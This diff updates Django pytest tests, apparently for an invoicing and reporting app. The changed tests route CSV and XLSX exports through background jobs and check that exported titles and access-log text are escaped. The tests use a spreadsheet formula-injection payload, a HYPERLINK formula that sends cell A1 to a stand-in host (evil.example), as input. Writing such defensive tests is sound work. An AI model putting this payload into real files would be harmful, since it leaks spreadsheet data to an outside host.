@@ -13,6 +13,7 @@ from decimal import Decimal
 
 import pytest
 from django.urls import reverse
+from django.utils import timezone
 from openpyxl import load_workbook
 
 from invoicing import services
@@ -27,6 +28,7 @@ from invoicing.tests.factories import setup
 from iop.roles import Role
 from iop.xlsx import Sheet, make_csv, make_xlsx
 from participants.models import AccessLog
+from tests.export_jobs import download, post_export
 from tests.factories import UserFactory
 
 ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")'
@@ -122,23 +124,27 @@ def test_the_bulk_export_of_approved_invoices_writes_it_as_text(attacked_invoice
     _assert_xlsx_has_attack_as_text(content)
 
 
-def test_the_overview_dashboard_exports_escape_a_partnership_title(client, attacked_invoice):
+def test_the_overview_dashboard_exports_escape_a_partnership_title(
+    client, attacked_invoice, django_capture_on_commit_callbacks
+):
     partnership = attacked_invoice.partnership
     partnership.title = ATTACK
     partnership.save()
     client.force_login(attacked_invoice.samordnare)
     for fmt, check in (("csv", _assert_csv_has_attack_escaped), ("xlsx", _assert_xlsx_has_attack_as_text)):
         url = reverse("reporting:overview_dashboard_export", kwargs={"table": "per_partnership", "fmt": fmt})
-        response = client.get(url + "?year=2025")
-        assert response.status_code == 200, response.content[:200]
-        check(response.content)
+        job = post_export(client, url + "?year=2025", {}, django_capture_on_commit_callbacks)
+        check(download(client, job))
 
 
-def test_the_access_log_exports_escape_a_logged_text(client, db):
+def test_the_access_log_exports_escape_a_logged_text(client, db, django_capture_on_commit_callbacks):
     coordinator = UserFactory(roles=[Role.SAMORDNARE])
     AccessLog.objects.create(username=ATTACK, action=AccessLog.Action.VIEW, detail=ATTACK)
     client.force_login(coordinator)
     for fmt, check in (("csv", _assert_csv_has_attack_escaped), ("xlsx", _assert_xlsx_has_attack_as_text)):
-        response = client.get(reverse("participants:access_log_export") + f"?format={fmt}")
-        assert response.status_code == 200
-        check(response.content)
+        today = timezone.localdate()
+        data = {"format": fmt, "date_from": today, "date_to": today}
+        job = post_export(
+            client, reverse("participants:access_log_export"), data, django_capture_on_commit_callbacks
+        )
+        check(download(client, job))
